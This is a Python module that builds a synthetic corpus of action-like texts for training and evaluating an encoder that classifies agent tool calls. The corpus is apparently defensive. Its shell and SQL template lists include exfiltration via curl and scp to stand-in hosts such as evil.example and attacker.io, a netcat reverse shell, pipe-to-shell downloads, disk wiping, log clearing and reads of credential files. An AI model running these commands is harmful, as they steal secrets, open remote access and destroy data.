"""Generated corpus of action-like texts used to fit and evaluate the static encoder.

The corpus is built from word lists by seeded templates, never from the benchmark or from the
archetype/anchor files, so those stay usable for evaluation. Every word list is split once, with a
fixed seed, into a *fit* part (80 %) and a *held-out* part (20 %): :func:`generate` with
``split="fit"`` only ever uses fit words, ``split="heldout"`` only held-out verbs and objects, so the
encoder-quality report measures texts built from words the fit never saw.

Example::

    >>> texts = generate(100, seed=1, split="fit")
    >>> len(texts)
    100
"""

from __future__ import annotations

import random
from collections.abc import Sequence
from typing import Literal

__all__ = ["Split", "generate", "fit_words", "split_words", "SPLIT_SEED"]

Split = Literal["fit", "heldout"]

SPLIT_SEED = 7
"""Seed of the fit/held-out word split. Changing it changes the artifact."""

# (base verb, third person) by effect; the effect keeps tool names and phrases consistent.
VERBS: dict[str, tuple[str, ...]] = {
    "read": (
        "read", "fetch", "get", "list", "view", "show", "search", "find", "lookup", "query",
        "inspect", "browse", "retrieve", "load", "open", "check", "count", "scan", "describe",
        "summarize", "preview", "download", "export", "print", "display", "audit", "review",
        "monitor", "watch", "track",
    ),
    "write": (
        "create", "update", "edit", "modify", "write", "save", "add", "insert", "append",
        "rename", "move", "copy", "merge", "upload", "import", "sync", "patch", "tag", "label",
        "archive", "restore", "publish", "post", "comment", "assign", "schedule", "book",
        "register", "submit", "approve",
    ),
    "delete": (
        "delete", "remove", "drop", "purge", "wipe", "erase", "destroy", "truncate", "shred",
        "overwrite", "reset", "format", "terminate", "kill", "revoke", "cancel", "deactivate",
        "uninstall", "clear", "flush",
    ),
    "send": (
        "send", "email", "forward", "share", "message", "notify", "reply", "broadcast", "tweet",
        "mail", "transmit", "leak", "exfiltrate", "dump", "paste", "invite", "text", "call",
        "contact", "announce",
    ),
    "pay": (
        "pay", "refund", "transfer", "charge", "wire", "withdraw", "deposit", "invoice", "bill",
        "reimburse", "credit", "debit", "purchase", "buy", "order", "payout", "settle", "void",
        "authorize", "discount",
    ),
    "grant": (
        "grant", "elevate", "promote", "escalate", "impersonate", "authorize", "allow",
        "whitelist", "permit", "delegate", "enroll", "provision", "unlock", "bypass", "sudo",
        "override", "disable", "enable", "suspend", "ban",
    ),
    "execute": (
        "run", "execute", "deploy", "build", "compile", "test", "install", "launch", "start",
        "stop", "restart", "invoke", "trigger", "rollback", "migrate", "backup", "provision",
        "scale", "evaluate", "spawn",
    ),
}

OBJECTS: tuple[str, ...] = (
    # finance
    "invoice", "customer invoice", "billing record", "payment", "refund", "credit card number",
    "bank account", "wire transfer", "payroll", "salary report", "expense report", "purchase order",
    "vendor payment", "ledger entry", "tax return", "budget", "receipt", "subscription",
    "gift card", "crypto wallet", "bitcoin address", "iban", "routing number", "quarterly revenue",
    "transaction history", "pricing sheet", "discount code", "loan application",
    # people and accounts
    "user account", "admin account", "customer record", "employee record", "contact list",
    "customer list", "patient record", "medical history", "social security number", "passport scan",
    "home address", "phone number", "email address", "date of birth", "personal data",
    "profile picture", "user role", "group membership", "team roster", "candidate resume",
    "performance review", "student grades", "mailing list", "subscriber list",
    # secrets
    "password", "api key", "access token", "ssh key", "private key", "secret key", "credentials",
    "oauth token", "session cookie", "aws access key", "service account key", "env file",
    "kubeconfig", "keychain", "password vault", "ssl certificate", "signing key", "jwt secret",
    "database password", "recovery codes", "two factor secret", "github token",
    # infra and security
    "firewall rule", "security group", "audit log", "access log", "antivirus", "endpoint agent",
    "intrusion detection", "monitoring alert", "backup", "snapshot", "database", "production database",
    "staging server", "kubernetes cluster", "docker container", "virtual machine", "dns record",
    "load balancer", "s3 bucket", "storage bucket", "cron job", "startup script", "systemd service",
    "ssh config", "sudoers file", "iam policy", "iam role", "mfa setting", "password policy",
    "login history", "vpn config", "network share", "web server", "cdn cache", "feature flag",
    "ci pipeline", "deployment", "release branch", "git repository", "pull request", "commit history",
    "unit tests", "test suite", "build artifact", "package registry", "dependency", "npm package",
    "python package", "config file", "log file", "temp files", "shell history", "system logs",
    "webhook", "api endpoint", "rate limit", "encryption setting", "tls certificate",
    "keylogger", "reverse shell", "rootkit", "screen recording", "browser history", "clipboard",
    "webcam", "microphone", "location history", "keystrokes",
    # documents and work
    "document", "spreadsheet", "report", "meeting notes", "calendar event", "meeting", "ticket",
    "support ticket", "issue", "bug report", "wiki page", "knowledge base article", "blog post",
    "newsletter", "presentation", "contract", "nda", "legal memo", "board minutes",
    "product roadmap", "source code", "design doc", "press release", "marketing email", "survey",
    "chat message", "slack channel", "email thread", "inbox", "attachment", "file", "folder",
    "directory", "archive", "photo", "video", "recording", "transcript", "weather forecast",
    "flight booking", "hotel reservation", "shipping label", "order status", "inventory",
    "product catalog", "shopping cart", "web page", "search results", "news article",
    "translation", "summary", "to do list", "reminder", "timesheet", "shift schedule",
)

QUALIFIERS: tuple[str, ...] = (
    "for all users", "for every customer", "in production", "on the staging server",
    "to an external address", "to a personal gmail account", "to a public pastebin",
    "to an unknown recipient", "without approval", "without telling anyone", "silently",
    "permanently", "immediately", "before the audit", "after hours", "for the whole company",
    "from the backup server", "from last quarter", "for this week", "for customer 4411",
    "for the marketing team", "for the finance team", "with admin rights", "as root",
    "as another user", "in bulk", "older than 30 days", "matching the query", "by id",
    "by email", "for the new hire", "for the december bill", "on my behalf", "in the shared drive",
    "to the attacker server", "over an encrypted tunnel", "to a competitor", "to the press",
    "to the board", "to my manager", "to the team channel", "to the customer", "with a discount",
    "up to 100 usd", "of 25000 dollars", "to an offshore account", "to a new payee",
    "and hide the evidence", "and clear the logs", "and disable alerts", "every night",
    "at startup", "on every login", "for debugging", "for the quarterly report",
    "as requested by the user", "per the ticket", "according to policy", "in read only mode",
    "in the sandbox", "with a dry run", "using the default settings", "for review",
)

PEOPLE: tuple[str, ...] = (
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
    "mallory", "oscar", "peggy", "trent", "victor", "walter", "the ceo", "the cfo",
    "a contractor", "an unknown user", "the auditor", "the customer", "support", "hr",
)

DOMAINS_INTERNAL: tuple[str, ...] = (
    "acme.com", "acme.internal", "corp.example.com", "intranet.acme.com", "billing.acme.com",
    "hr.acme.com", "git.acme.internal",
)
DOMAINS_EXTERNAL: tuple[str, ...] = (
    "gmail.com", "protonmail.com", "pastebin.com", "evil.example", "attacker.io",
    "transfer.sh", "dropbox.com", "mega.nz", "anonfiles.net", "temp-mail.org", "ngrok.io",
    "competitor.com", "webhook.site", "drive.google.com", "yahoo.com", "outlook.com",
)

PATHS: tuple[str, ...] = (
    "/etc/passwd", "/etc/shadow", "~/.ssh/id_rsa", "~/.aws/credentials", ".env", "/var/log/auth.log",
    "/srv/app/config.yaml", "/home/user/documents/report.pdf", "/tmp/cache", "src/main.py",
    "tests/test_api.py", "README.md", "/var/lib/postgresql/data", "/etc/sudoers", "~/.bash_history",
    "/etc/crontab", "/backups/db.sql.gz", "/var/www/html/index.php", "C:\\Users\\admin\\Desktop",
    "/data/customers.csv", "/opt/app/secrets.json", "~/.kube/config", "package.json", "Dockerfile",
    "/etc/ssh/sshd_config", "/var/spool/cron", "/etc/hosts", "docs/index.md", "/mnt/share/payroll.xlsx",
)

TABLES: tuple[str, ...] = (
    "users", "customers", "invoices", "payments", "orders", "employees", "accounts", "sessions",
    "audit_log", "credentials", "products", "tickets", "patients", "salaries", "api_keys",
)

ARG_KEYS: dict[str, tuple[str, ...]] = {
    "read": ("id", "query", "path", "filter", "limit", "user_id", "invoice_id", "page"),
    "write": ("id", "path", "content", "title", "body", "name", "value", "fields"),
    "delete": ("id", "path", "target", "scope", "recursive", "force", "older_than"),
    "send": ("to", "recipient", "subject", "body", "channel", "url", "attachment", "cc"),
    "pay": ("amount", "currency", "account", "iban", "invoice_id", "payee", "reason"),
    "grant": ("user", "role", "permission", "group", "scope", "principal", "policy"),
    "execute": ("command", "script", "environment", "target", "args", "image", "branch"),
}

SUBJECTS: tuple[str, ...] = (
    "payroll export", "quarterly results", "customer list", "meeting tomorrow", "invoice attached",
    "password reset", "urgent wire request", "project update", "weekly report", "your refund",
    "api keys", "database backup", "happy birthday", "lunch plans", "contract draft",
)

SHELL: tuple[str, ...] = (
    "rm -rf {path}", "cat {path}", "ls -la {path}", "chmod 777 {path}", "curl -X POST https://{ext}/upload -d @{path}",
    "scp {path} {person}@{ext}:/tmp", "tar czf /tmp/out.tgz {path}", "wget https://{ext}/payload.sh",
    "bash -c 'curl https://{ext}/x.sh | sh'", "crontab -l", "sudo su", "useradd -m -G sudo {person}",
    "git push --force origin main", "git log --oneline", "pytest -q", "npm install", "pip install requests",
    "kubectl delete namespace production", "kubectl get pods", "docker run --privileged alpine",
    "systemctl stop auditd", "iptables -F", "history -c", "nc -e /bin/sh {ext} 4444", "grep -r password {path}",
    "base64 {path}", "shred -u {path}", "dd if=/dev/zero of=/dev/sda", "find / -name '*.pem'", "make build",
    "python manage.py migrate", "echo hello", "df -h", "top -b -n 1", "aws s3 cp {path} s3://{ext}-bucket",
)

SQL: tuple[str, ...] = (
    "SELECT * FROM {table} WHERE id = 42", "SELECT name, email FROM {table} LIMIT 10",
    "SELECT count(*) FROM {table}", "DELETE FROM {table}", "DROP TABLE {table}", "TRUNCATE {table}",
    "UPDATE {table} SET role = 'admin' WHERE id = 7", "INSERT INTO {table} VALUES (1, 'test')",
    "GRANT ALL PRIVILEGES ON {table} TO public", "SELECT * FROM {table} INTO OUTFILE '/tmp/out.csv'",
    "ALTER TABLE {table} DISABLE TRIGGER ALL", "SELECT password FROM {table}",
)

_FRACTION_HELDOUT = 0.2


def split_words(words: Sequence[str], split: Split, salt: str) -> list[str]:
    """Return the fit or held-out part of ``words`` (a fixed, seeded 80/20 split)."""
    ordered = sorted(set(words))
    rng = random.Random(f"{SPLIT_SEED}:{salt}")
    rng.shuffle(ordered)
    cut = max(1, int(round(len(ordered) * _FRACTION_HELDOUT)))
    return ordered[cut:] if split == "fit" else ordered[:cut]


def fit_words() -> list[str]:
    """All single words the fit split may use, sorted (candidates for the whole-word vocabulary)."""
    words: set[str] = set()
    for effect, verbs in VERBS.items():
        words.update(split_words(verbs, "fit", f"verb:{effect}"))
    for phrase in split_words(OBJECTS, "fit", "object") + list(QUALIFIERS) + list(PEOPLE):
        words.update(phrase.split())
    for group in (SUBJECTS, TABLES, *ARG_KEYS.values()):
        for phrase in group:
            words.update(phrase.replace("_", " ").split())
    return sorted(w for w in words if w.isalpha())


class _Pools:
    """The word pools one split draws from."""

    def __init__(self, split: Split) -> None:
        self.verbs = {e: split_words(v, split, f"verb:{e}") for e, v in VERBS.items()}
        self.objects = split_words(OBJECTS, split, "object")
        self.effects = sorted(self.verbs)


def _third_person(verb: str) -> str:
    if verb.endswith(("s", "sh", "ch", "x")):
        return verb + "es"
    if verb.endswith("y") and verb[-2:-1] not in "aeiou":
        return verb[:-1] + "ies"
    return verb + "s"


def _tool_name(verb: str, obj: str, rng: random.Random) -> str:
    parts = [verb] + obj.split()
    style = rng.randrange(7)
    if style == 0:
        return "_".join(parts)
    if style == 1:
        return parts[0] + "".join(p.capitalize() for p in parts[1:])
    if style == 2:
        return "-".join(parts)
    if style == 3:
        return "API_CALL:" + "_".join(parts)
    if style == 4:
        server = rng.choice(("github", "slack", "gmail", "stripe", "jira", "filesystem", "postgres", "aws"))
        return f"mcp__{server}__" + "_".join(parts)
    if style == 5:
        return "".join(p.capitalize() for p in parts)
    return parts[-1] + "." + parts[0]


def _value(key: str, rng: random.Random) -> str:
    """A plausible argument value for ``key``."""
    if key in ("to", "recipient", "cc", "payee", "user", "principal"):
        domain = rng.choice(DOMAINS_INTERNAL + DOMAINS_EXTERNAL)
        return f"{rng.choice(PEOPLE).split()[-1]}@{domain}"
    if key in ("url",):
        return f"https://{rng.choice(DOMAINS_INTERNAL + DOMAINS_EXTERNAL)}/{rng.choice(TABLES)}"
    if key in ("path", "target", "attachment", "script"):
        return rng.choice(PATHS)
    if key in ("amount", "limit", "older_than", "page"):
        return str(rng.choice((1, 5, 10, 40, 99, 100, 250, 1000, 25000, 990000)))
    if key in ("invoice_id", "id", "user_id"):
        return f"{rng.choice(('INV', 'USR', 'ORD', 'TCK'))}-{rng.randrange(1000, 9999)}"
    if key in ("subject", "title"):
        return rng.choice(SUBJECTS)
    if key in ("command",):
        return _shell(rng)
    if key in ("query", "filter"):
        return rng.choice((_sql(rng), rng.choice(OBJECTS), rng.choice(SUBJECTS)))
    if key in ("role", "permission", "group", "policy", "scope"):
        return rng.choice(("admin", "owner", "superuser", "read_only", "viewer", "billing", "root", "all"))
    if key in ("environment", "branch"):
        return rng.choice(("production", "staging", "dev", "main", "release"))
    if key in ("currency",):
        return rng.choice(("USD", "EUR", "BTC"))
    if key in ("recursive", "force"):
        return rng.choice(("true", "false"))
    return rng.choice(SUBJECTS + OBJECTS[:40])


def _shell(rng: random.Random) -> str:
    return rng.choice(SHELL).format(
        path=rng.choice(PATHS), ext=rng.choice(DOMAINS_EXTERNAL), person=rng.choice(PEOPLE).split()[-1]
    )


def _sql(rng: random.Random) -> str:
    return rng.choice(SQL).format(table=rng.choice(TABLES))


def _sentence(p: _Pools, rng: random.Random) -> str:
    effect = rng.choice(p.effects)
    verb = rng.choice(p.verbs[effect])
    obj = rng.choice(p.objects)
    qual = rng.choice(QUALIFIERS)
    kind = rng.randrange(10)
    if kind == 0:
        return f"{verb} the {obj}"
    if kind == 1:
        return f"{verb} {obj} {qual}"
    if kind == 2:
        return f"{_third_person(verb).capitalize()} the {obj} {qual}"
    if kind == 3:
        return f"please {verb} the {obj} for {rng.choice(PEOPLE)}"
    if kind == 4:
        return f"Agent that can {verb} {obj} and {rng.choice(p.verbs[rng.choice(p.effects)])} {rng.choice(p.objects)}"
    if kind == 5:
        return f"{verb} {obj}"
    if kind in (6, 7, 8):
        return _call(effect, verb, obj, rng)
    return f"{verb} {rng.choice(p.objects)} and {rng.choice(p.verbs[effect])} {obj} {qual}"


def _call(effect: str, verb: str, obj: str, rng: random.Random) -> str:
    """A canonical action string: tool name then ``key value`` pairs."""
    keys = ARG_KEYS[effect]
    chosen = rng.sample(keys, k=rng.randrange(0, 3))
    args = " ".join(f"{k} {_value(k, rng)}" for k in chosen)
    return f"{_tool_name(verb, obj, rng)} {args}".strip()


def _special(rng: random.Random) -> str:
    kind = rng.randrange(6)
    if kind == 0:
        return f"{rng.choice(('run_sql', 'db_query', 'execute_sql', 'postgres_query'))} query {_sql(rng)}"
    if kind == 1:
        return f"{rng.choice(('bash', 'shell', 'run_command', 'terminal', 'exec'))} command {_shell(rng)}"
    if kind == 2:
        return f"send_email to {_value('to', rng)} subject {rng.choice(SUBJECTS)}"
    if kind == 3:
        return f"http_request method {rng.choice(('GET', 'POST', 'PUT', 'DELETE'))} url {_value('url', rng)}"
    if kind == 4:
        return f"{rng.choice(('read_file', 'write_file', 'delete_file', 'open'))} path {rng.choice(PATHS)}"
    return _sql(rng) if rng.random() < 0.5 else _shell(rng)


def generate(n: int, seed: int, split: Split) -> list[str]:
    """Return ``n`` distinct action-like texts, deterministic in (``n``, ``seed``, ``split``)."""
    pools = _Pools(split)
    rng = random.Random(f"corpus:{seed}:{split}")
    seen: set[str] = set()
    out: list[str] = []
    attempts = 0
    while len(out) < n and attempts < n * 50:
        attempts += 1
        text = _special(rng) if rng.random() < 0.15 else _sentence(pools, rng)
        if text not in seen:
            seen.add(text)
            out.append(text)
    return out
